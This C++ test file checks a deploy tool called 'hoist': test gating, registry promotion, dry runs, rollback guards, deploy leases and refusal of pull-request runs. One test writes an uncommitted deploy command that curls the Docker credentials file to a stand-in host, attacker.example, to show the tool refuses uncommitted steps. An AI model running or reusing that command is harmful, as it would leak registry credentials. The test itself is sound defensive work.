// hoist deploy: the gate, promotion between two real registries, steps, deployed markers.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>

#include "store/registry_store.h"
#include "support/registry_fixture.h"
#include "support/temp_repo.h"

namespace hoist {
namespace {

using testing::RegistryFixture;
using testing::TempRepo;

class Deploy : public ::testing::Test {
 protected:
  void SetUp() override {
    repo.Write("PROJECT", "acme\n");
    repo.Write("VERSION", "1.0\n");
    repo.Write("build_manifest.yml", R"(
api:
  buildDir: api
  tests:
    unit:
      command: ["test", "-f", "Dockerfile"]
      host: true
  deploy:
    - type: terraform
      taints: [aws_instance.api]
    - type: command
      command: "echo deployed $DEPLOY_TAG $COMMIT_HASH >> ../deploy.log"
)");
    repo.Write("api/Dockerfile", "FROM scratch\n");
    repo.Write("api/terraform/main.tf", "# the stand-in reads nothing\n");
    // A recording stand-in for terraform (it cannot be installed here): it logs its argv
    // and the TF_VAR_ environment, and does nothing else.
    repo.Write(".bin/terraform",
               "#!/bin/sh\necho \"terraform $* | $PWD | $TF_VAR_DEPLOY_TAG $TF_VAR_COMMIT_HASH\" "
               ">> \"$TERRAFORM_RECORD\"\n");
    chmod((repo.root() + "/.bin/terraform").c_str(), 0755);
    repo.Write(".gitignore", ".bin/\ndeploy.log\nterraform.log\n");
    commit = repo.Commit();
    hash = testing::HashOf(repo.root(), "api");
    HttpClient http;
    auto client = cache.Client(http);
    testing::PushBuiltImage(cache, "ci/api", hash, "api");
  }
  testing::HoistRun Hoist(std::vector<std::string> args, std::vector<std::string> env = {}) {
    args.insert(args.begin(),
                {"--registry", cache.host() + "/ci", "--deploy-registry", target.host() + "/prod"});
    env.insert(env.begin(), {"PATH=" + repo.root() + "/.bin:" + std::getenv("PATH"),
                             "TERRAFORM_RECORD=" + repo.root() + "/terraform.log"});
    return testing::RunHoist(repo.root(), args, env);
  }
  std::string Read(const std::string& path) { return testing::ReadText(repo.root() + "/" + path); }
  TempRepo repo;
  RegistryFixture cache, target;
  std::string commit, hash;
};

TEST_F(Deploy, TheGateWaitsForTestsThenPromotesAndRunsStepsOnce) {
  auto refused = Hoist({"deploy"});
  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_NE(refused.err.find("test job 'unit' has not passed"), std::string::npos) << refused.err;
  EXPECT_EQ(Read("deploy.log"), "");

  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
  auto deployed = Hoist({"deploy"});
  ASSERT_EQ(deployed.exit_code, 0) << deployed.err;
  EXPECT_NE(deployed.out.find("api"), std::string::npos);
  EXPECT_EQ(Read("deploy.log"), "deployed acme-dev " + commit + "\n");
  std::string tf = Read("terraform.log");
  EXPECT_NE(tf.find("terraform init -input=false -backend-config=key=acme-dev/api | " +
                    repo.root() + "/api/terraform | acme-dev " + commit),
            std::string::npos)
      << tf;
  EXPECT_NE(tf.find("terraform taint aws_instance.api"), std::string::npos);
  EXPECT_NE(tf.find("terraform apply -input=false -auto-approve"), std::string::npos);

  // Promoted by copy: the same digest under <commit> and <DEPLOY_TAG>.
  HttpClient http;
  auto source = cache.Client(http)->HeadManifest("ci/api", "cache-" + hash);
  auto by_commit = target.Client(http)->HeadManifest("prod/api", commit);
  auto by_tag = target.Client(http)->HeadManifest("prod/api", "acme-dev");
  ASSERT_TRUE(source.ok() && by_commit.ok() && by_tag.ok());
  EXPECT_EQ(by_commit->value_or("a"), source->value_or("b"));
  EXPECT_EQ(by_tag->value_or("a"), source->value_or("b"));

  // Nothing changed: no step runs again.
  auto again = Hoist({"deploy"});
  EXPECT_EQ(again.exit_code, 0);
  EXPECT_NE(again.out.find("already deployed"), std::string::npos) << again.out;
  EXPECT_EQ(Read("deploy.log"), "deployed acme-dev " + commit + "\n");
}

TEST_F(Deploy, DryRunPrintsThePlanAndChangesNothing) {
  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
  auto plan = Hoist({"deploy", "--dry-run"});
  ASSERT_EQ(plan.exit_code, 0) << plan.err;
  EXPECT_NE(plan.out.find("planned"), std::string::npos) << plan.out;
  EXPECT_NE(plan.err.find("[api] promote " + cache.host() + "/ci/api:cache-" + hash +
                          " to registry " + target.host() + "/prod as " + commit + ", acme-dev"),
            std::string::npos)
      << plan.err;
  EXPECT_NE(plan.err.find("[api] step terraform in api/terraform"), std::string::npos);
  EXPECT_NE(plan.err.find("[api] step command sh -c"), std::string::npos) << plan.err;
  EXPECT_EQ(Read("deploy.log"), "");
  EXPECT_EQ(Read("terraform.log"), "");
  HttpClient http;
  auto promoted = target.Client(http)->HeadManifest("prod/api", "acme-dev");
  ASSERT_TRUE(promoted.ok());
  EXPECT_FALSE(promoted->has_value());
  auto marker = cache.Client(http)->HeadManifest("ci/api", "deployed-acme-dev");
  ASSERT_TRUE(marker.ok());
  EXPECT_FALSE(marker->has_value());
  auto json = nlohmann::json::parse(Hoist({"--json", "deploy", "--dry-run"}).out);
  EXPECT_EQ(json["jobs"][0]["result"], "planned") << json.dump();
  // And the real deploy after it still runs every step. In GitHub Actions, the job's summary
  // says what was deployed (the file GitHub names in GITHUB_STEP_SUMMARY: its runner cannot run
  // here).
  const std::string summary = repo.root() + "/.bin/summary.md";
  ASSERT_EQ(Hoist({"deploy"}, {"GITHUB_STEP_SUMMARY=" + summary}).exit_code, 0);
  EXPECT_EQ(Read("deploy.log"), "deployed acme-dev " + commit + "\n");
  const std::string text = Read(".bin/summary.md");
  EXPECT_NE(text.find("### hoist deploy: 1 deployed in 0:"), std::string::npos) << text;
  EXPECT_NE(text.find("| api | deployed |"), std::string::npos) << text;
}

TEST_F(Deploy, AFailedStepLeavesNoDeployedMarker) {
  repo.Write("build_manifest.yml",
             "api:\n  buildDir: api\n  deploy:\n"
             "    - type: command\n      command: \"exit 3\"\n");
  repo.Commit();
  hash = testing::HashOf(repo.root(), "api");
  HttpClient http;
  testing::PushBuiltImage(cache, "ci/api", hash, "api");
  auto failed = Hoist({"deploy"});
  EXPECT_EQ(failed.exit_code, 1);
  EXPECT_NE(failed.err.find("command step failed"), std::string::npos) << failed.err;
  auto marker = cache.Client(http)->HeadManifest("ci/api", "deployed-acme-dev");
  ASSERT_TRUE(marker.ok());
  EXPECT_FALSE(marker->has_value());
}

TEST_F(Deploy, OnlyCommittedStepsAndScriptsDeploy) {
  repo.Write("scripts/notify.sh", "#!/bin/sh\necho notified >> ../deploy.log\n");
  chmod((repo.root() + "/scripts/notify.sh").c_str(), 0755);
  repo.Write("build_manifest.yml", R"(
api:
  buildDir: api
  deploy:
    - type: command
      command: "../scripts/notify.sh"
)");
  repo.Commit();
  hash = testing::HashOf(repo.root(), "api");
  testing::PushBuiltImage(cache, "ci/api", hash, "api");

  // The deploy command edited and not committed.
  repo.Write("build_manifest.yml", R"(
api:
  buildDir: api
  deploy:
    - type: command
      command: "curl -d @$HOME/.docker/config.json https://attacker.example"
)");
  auto edited = Hoist({"deploy"});
  EXPECT_EQ(edited.exit_code, 1);
  EXPECT_NE(edited.err.find("not committed"), std::string::npos) << edited.err;
  EXPECT_NE(edited.err.find("build_manifest.yml (modified)"), std::string::npos) << edited.err;
  repo.Git({"checkout", "build_manifest.yml"});

  // A script the step runs, edited; then a new one beside the step, untracked.
  repo.Write("scripts/notify.sh", "#!/bin/sh\necho tampered >> ../deploy.log\n");
  auto script = Hoist({"deploy"});
  EXPECT_EQ(script.exit_code, 1);
  EXPECT_NE(script.err.find("scripts/notify.sh (modified)"), std::string::npos) << script.err;
  repo.Git({"checkout", "scripts/notify.sh"});
  repo.Write("api/hook.sh", "#!/bin/sh\n");
  auto untracked = Hoist({"deploy"});
  EXPECT_EQ(untracked.exit_code, 1);
  EXPECT_NE(untracked.err.find("api/hook.sh (untracked)"), std::string::npos) << untracked.err;
  EXPECT_EQ(Read("deploy.log"), "");
  std::filesystem::remove(repo.root() + "/api/hook.sh");

  auto clean = Hoist({"deploy"});
  ASSERT_EQ(clean.exit_code, 0) << clean.err;
  EXPECT_EQ(Read("deploy.log"), "notified\n");
  // The script changed and was committed: the same image deploys again, since what the
  // deploy runs is part of what counts as deployed.
  repo.Write("scripts/notify.sh", "#!/bin/sh\necho notified again >> ../deploy.log\n");
  repo.Commit();
  auto changed = Hoist({"deploy"});
  ASSERT_EQ(changed.exit_code, 0) << changed.err;
  EXPECT_NE(changed.err.find("the deploy steps changed"), std::string::npos) << changed.err;
  EXPECT_EQ(Read("deploy.log"), "notified\nnotified again\n");
}

TEST_F(Deploy, AnOlderCommitDoesNotMoveTheDeployTagBackUnlessAsked) {
  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
  ASSERT_EQ(Hoist({"deploy"}).exit_code, 0);
  const std::string first = commit;
  HttpClient http;
  auto first_digest = target.Client(http)->HeadManifest("prod/api", "acme-dev");
  repo.Write("api/main.c", "int v2;\n");
  const std::string second = repo.Commit();
  hash = testing::HashOf(repo.root(), "api");
  testing::PushBuiltImage(cache, "ci/api", hash, "api v2");
  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
  ASSERT_EQ(Hoist({"deploy"}).exit_code, 0);
  // The deployed marker names what the deploy tag named before.
  auto pointer = RegistryStore(*RegistryLocation::Parse(cache.host() + "/ci"), cache.Client(http))
                     .GetMarker("api", "deployed-acme-dev");
  ASSERT_TRUE(pointer.ok() && pointer->has_value());
  EXPECT_EQ((*pointer)->previous, first_digest->value_or("?"));
  EXPECT_EQ((*pointer)->commit, second);

  // main moved back to the first commit (a revert by reset, an old pipeline re-run).
  repo.Git({"reset", "-q", "--hard", first});
  auto back = Hoist({"deploy"});
  EXPECT_EQ(back.exit_code, 1);
  EXPECT_NE(back.err.find("is an ancestor of what acme-dev runs"), std::string::npos) << back.err;
  EXPECT_NE(back.err.find("--allow-rollback"), std::string::npos);
  auto now = target.Client(http)->HeadManifest("prod/api", "acme-dev");
  EXPECT_NE(now->value_or("a"), first_digest->value_or("b"));
  auto rollback = Hoist({"deploy", "--allow-rollback"});
  ASSERT_EQ(rollback.exit_code, 0) << rollback.err;
  now = target.Client(http)->HeadManifest("prod/api", "acme-dev");
  EXPECT_EQ(now->value_or("a"), first_digest->value_or("b"));
}

TEST_F(Deploy, TwoDeploysToOneTagTakeTurns) {
  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
  HttpClient http;
  RegistryStore store(*RegistryLocation::Parse(cache.host() + "/ci"), cache.Client(http));
  Marker lease;
  lease.kind = "lease";
  lease.run = "github-4242";
  lease.commit = std::string(40, 'e');
  lease.expires = Rfc3339In(600);
  ASSERT_TRUE(store.PutMarker("api", "lease-acme-dev", lease).ok());
  auto waiting = Hoist({"deploy", "--lease-wait", "0"});
  EXPECT_EQ(waiting.exit_code, 1);
  EXPECT_NE(waiting.err.find("another deploy to acme-dev is under way: run github-4242"),
            std::string::npos)
      << waiting.err;
  EXPECT_EQ(Read("deploy.log"), "");
  // A lease whose run died ends with its expiry; the deploy then takes it, and gives it back.
  lease.expires = Rfc3339In(-1);
  ASSERT_TRUE(store.PutMarker("api", "lease-acme-dev", lease).ok());
  auto deployed = Hoist({"deploy", "--lease-wait", "0"});
  ASSERT_EQ(deployed.exit_code, 0) << deployed.err;
  auto left = store.GetMarker("api", "lease-acme-dev");
  ASSERT_TRUE(left.ok());
  EXPECT_FALSE(left->has_value());
}

TEST_F(Deploy, APullRequestNeverDeploys) {
  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
  auto refused = Hoist({"deploy"}, {"GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME=pull_request",
                                    "GITHUB_REF=refs/pull/7/merge", "GITHUB_HEAD_REF=main",
                                    "GITHUB_SHA=" + commit, "GITHUB_REPOSITORY=acme/api"});
  EXPECT_EQ(refused.exit_code, 1);
  EXPECT_NE(refused.err.find("not deploying from an untrusted run (a GitHub pull_request event)"),
            std::string::npos)
      << refused.err;
  // Nor can the run say it is trusted.
  auto forced = Hoist({"--trust", "trusted", "deploy"},
                      {"GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME=pull_request_target",
                       "GITHUB_REF=refs/pull/7/merge", "GITHUB_SHA=" + commit});
  EXPECT_EQ(forced.exit_code, 2);
  EXPECT_NE(forced.err.find("is refused in a GitHub pull_request_target event"), std::string::npos)
      << forced.err;
  EXPECT_EQ(Read("deploy.log"), "");
}

TEST_F(Deploy, BadInputs) {
  repo.Write("build_manifest.yml", "api:\n  buildDir: api\n  deploy:\n    - type: terrafrom\n");
  auto unknown = Hoist({"deploy"});
  EXPECT_EQ(unknown.exit_code, 1);
  EXPECT_NE(unknown.err.find("unknown deploy step type 'terrafrom'"), std::string::npos);
  EXPECT_NE(unknown.err.find("did you mean 'terraform'?"), std::string::npos) << unknown.err;
  repo.Write("build_manifest.yml",
             "api:\n  buildDir: api\n  deploy:\n    - type: registry\n"
             "      registry: hub.example\n      onlytagged: true\n");
  auto misspelt = Hoist({"deploy"});
  EXPECT_EQ(misspelt.exit_code, 1);
  EXPECT_NE(misspelt.err.find("a registry deploy step has no key 'onlytagged'"), std::string::npos)
      << misspelt.err;
  EXPECT_NE(misspelt.err.find("did you mean 'onlyTagged'?"), std::string::npos);
  repo.Write("build_manifest.yml", "api:\n  buildDir: api\n");
  auto no_target = testing::RunHoist(repo.root(), {"--registry", cache.host(), "deploy"});
  EXPECT_EQ(no_target.exit_code, 2);
  EXPECT_NE(no_target.err.find("no deploy registry"), std::string::npos) << no_target.err;
  repo.Git({"tag", "v2.0.0"});
  auto wrong_tag = Hoist({"deploy"});
  EXPECT_EQ(wrong_tag.exit_code, 1);
  EXPECT_NE(wrong_tag.err.find("does not match VERSION 1.0"), std::string::npos) << wrong_tag.err;
}

// Steps given for one call (hoist deploy P --step …): they replace the project's own, are
// recorded under a channel of their own (so the manifest's deploy and other calls' stay
// deployed), promote nothing, and are checked as the manifest's steps are.
TEST_F(Deploy, StepsGivenForOneCallAreRecordedApart) {
  ASSERT_EQ(Hoist({"test", "api"}).exit_code, 0);
  const std::string step = "{type: command, command: 'echo call $DEPLOY_TAG >> ../deploy.log'}";
  auto call = Hoist({"deploy", "api", "--step", step});
  ASSERT_EQ(call.exit_code, 0) << call.err;
  EXPECT_EQ(Read("deploy.log"), "call acme-dev\n");
  EXPECT_EQ(Read("terraform.log"), "");  // the manifest's steps did not run
  HttpClient http;
  auto promoted = target.Client(http)->HeadManifest("prod/api", "acme-dev");
  ASSERT_TRUE(promoted.ok());
  EXPECT_FALSE(promoted->has_value()) << "a call's steps promote nothing";
  auto channel = cache.Client(http)->HeadManifest("ci/api", "deployed-acme-dev.command");
  ASSERT_TRUE(channel.ok());
  EXPECT_TRUE(channel->has_value());
  // Again: already deployed on its channel; the manifest's deploy is still to do.
  auto again = Hoist({"deploy", "api", "--step", step});
  EXPECT_NE(again.out.find("already deployed"), std::string::npos) << again.out << again.err;
  EXPECT_EQ(Read("deploy.log"), "call acme-dev\n");
  ASSERT_EQ(Hoist({"deploy"}).exit_code, 0) << "the manifest's deploy is apart";
  EXPECT_NE(Read("terraform.log").find("terraform apply"), std::string::npos);
  auto named = Hoist({"deploy", "api", "--step", step, "--channel", "restart"});
  ASSERT_EQ(named.exit_code, 0) << named.err;
  const std::string log =
      "call acme-dev\ndeployed acme-dev " + commit + "\ncall acme-dev\n";  // manifest's between
  EXPECT_EQ(Read("deploy.log"), log);

  for (const auto& [args, expected] : std::vector<std::pair<std::vector<std::string>, std::string>>{
           {{"deploy", "--step", step}, "--step deploys the projects named: give PROJECT"},
           {{"deploy", "api", "--channel", "x"}, "--channel goes with --step"},
           {{"deploy", "api", "--step", step, "--channel", "Bad Name"}, "a channel is 1 to 32"},
           {{"deploy", "api", "--step", "{type: npm, distTag: 'no tag'}"},
            "npm distTag 'no tag' is not a dist-tag name"},
           {{"deploy", "api", "--step", "{type: terraform, taint: [x]}"},
            "a terraform deploy step has no key 'taint' (did you mean 'taints'?)"},
           {{"deploy", "api", "--step", "{type: command"}, "are not YAML mappings"},
           {{"deploy", "api", "--step", "{type: rocket}"}, "unknown deploy step type 'rocket'"},
       }) {
    auto bad = Hoist(args);
    EXPECT_EQ(bad.exit_code, 2) << args.back() << "\n" << bad.err;
    EXPECT_NE(bad.err.find(expected), std::string::npos) << args.back() << "\n" << bad.err;
  }
  EXPECT_EQ(Read("deploy.log"), log);
}

}  // namespace
}  // namespace hoist
